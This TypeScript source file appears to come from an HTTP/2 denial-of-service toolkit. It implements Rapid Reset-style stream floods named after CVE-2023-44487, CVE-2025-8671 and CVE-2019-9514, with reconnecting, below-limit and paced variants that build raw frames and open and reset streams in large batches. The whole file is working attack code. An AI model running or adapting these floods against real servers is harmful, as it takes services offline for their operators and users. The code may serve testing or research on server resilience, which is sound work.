/** Attacks that open streams only to have them reset: by their own hand, or by the server's. */
import { setTimeout } from "node:timers/promises";
import { clientPreface, frameType, headers, ping, reset, settings, streamIdAt, windowUpdate } from "../wire/frames.js";
import { firstRequest, methodPath, repeatedRequest } from "../wire/header-blocks.js";
import type { RawConnection } from "../wire/raw-connection.js";
import type { Attack, Attacker } from "./attacker.js";

/** The frame that ends the stream which a request has opened. */
type Ending = (streamId: number) => Buffer;

/** CVE-2023-44487. */
export const byReset: Ending = (streamId) => reset(streamId);
/** CVE-2025-8671: an increment of 0 makes the server reset the stream (RFC 9113 §6.9). */
export const byZeroIncrement: Ending = (streamId) => windowUpdate(streamId, 0);
/** CVE-2019-9514: more headers, with a field name in capitals, are malformed (RFC 9113 §8.2.1). */
export const byMalformedRequest: Ending = (streamId) => headers(streamId, Buffer.from([0, 1, 0x41, 0]));

const batchStreams = 512;
/** What a connection starts with, kept for the next one: 4 MB. */
const keptBatches = 256;
/** Stream 1 is the greeting's. */
const firstId = 3;
const pacingMs = 10;

/** As fast as the connection takes it; when it ends, on a new one. */
export function reconnecting(ending: Ending): Attack {
  // Every connection begins with the same streams: made once, they cost the attacker next to nothing.
  const beginning = new Streams(ending);
  const made: Buffer[] = [];
  return async (attacker) => {
    while (!attacker.isStopped) {
      const connection = await attacker.open();
      if (connection === undefined) continue;
      // Not every server closes what it has said GOAWAY on.
      connection.onFrame = ({ type }) => {
        if (type === frameType.GOAWAY) connection.destroy();
      };
      greet(connection, ending);
      let sent = 0;
      let rest: Streams | undefined;
      const nextBatch = (): Buffer => {
        if (sent === keptBatches) {
          rest ??= new Streams(ending, firstId + 2 * batchStreams * keptBatches);
          return rest.next(batchStreams);
        }
        if (sent === made.length) made.push(beginning.next(batchStreams));
        return made[sent++] as Buffer;
      };
      await attacker.flood(connection, nextBatch, batchStreams);
      connection.destroy();
      await connection.closed;
    }
  };
}

/** So few streams on each connection that no limit is reached, and then the next one: the attacker knows the server's limits. */
export function reconnectingBelow(ending: Ending, streams: number): Attack {
  const bytes = Buffer.concat([new Streams(ending).next(streams), ping()]);
  return async (attacker) => {
    while (!attacker.isStopped) {
      const connection = await attacker.open();
      if (connection === undefined) continue;
      // The answer to the PING says that all of it was read.
      connection.onFrame = ({ type }) => {
        if (type === frameType.PING || type === frameType.GOAWAY) connection.destroy();
      };
      greet(connection, ending);
      connection.write(bytes);
      attacker.units += streams;
      await connection.closed;
    }
  };
}

/** One connection, as fast as it takes it, or at a rate; when it ends, that is the end. */
export function once(ending: Ending, streamsPerSecond = Number.POSITIVE_INFINITY): Attack {
  return async (attacker) => {
    const connection = await attacker.open();
    if (connection === undefined) throw new Error("the attacker could not connect");
    greet(connection, ending);
    const streams = new Streams(ending);
    if (streamsPerSecond === Number.POSITIVE_INFINITY) {
      await attacker.flood(connection, () => streams.next(batchStreams), batchStreams);
    } else {
      await pace(attacker, connection, streams, streamsPerSecond);
    }
  };
}

async function pace(attacker: Attacker, connection: RawConnection, streams: Streams, rate: number): Promise<void> {
  const startedAt = attacker.elapsedMs;
  let owed = 0;
  while (!attacker.isStopped && connection.isOpen) {
    owed = Math.floor(((attacker.elapsedMs - startedAt + pacingMs) * rate) / 1000) - attacker.units;
    if (owed > 0) connection.write(streams.next(owed));
    attacker.units += Math.max(0, owed);
    await connection.writable();
    await setTimeout(pacingMs);
  }
}

function greet(connection: RawConnection, ending: Ending): void {
  connection.write(Buffer.concat([clientPreface, settings(), headers(1, firstRequest(methodPath.unary)), ending(1)]));
}

/** Requests and what ends them. */
class Streams {
  readonly #template: Buffer;
  readonly #idsAt: readonly [number, number];
  #nextId: number;

  constructor(ending: Ending, nextId = firstId) {
    this.#nextId = nextId;
    const request = headers(0, repeatedRequest);
    this.#template = Buffer.concat([request, ending(0)]);
    this.#idsAt = [streamIdAt, request.length + streamIdAt];
  }

  next(count: number): Buffer {
    const bytes = Buffer.allocUnsafe(count * this.#template.length);
    for (let at = 0; at < bytes.length; at += this.#template.length) {
      this.#template.copy(bytes, at);
      for (const idAt of this.#idsAt) bytes.writeUInt32BE(this.#nextId, at + idAt);
      this.#nextId += 2;
    }
    return bytes;
  }
}
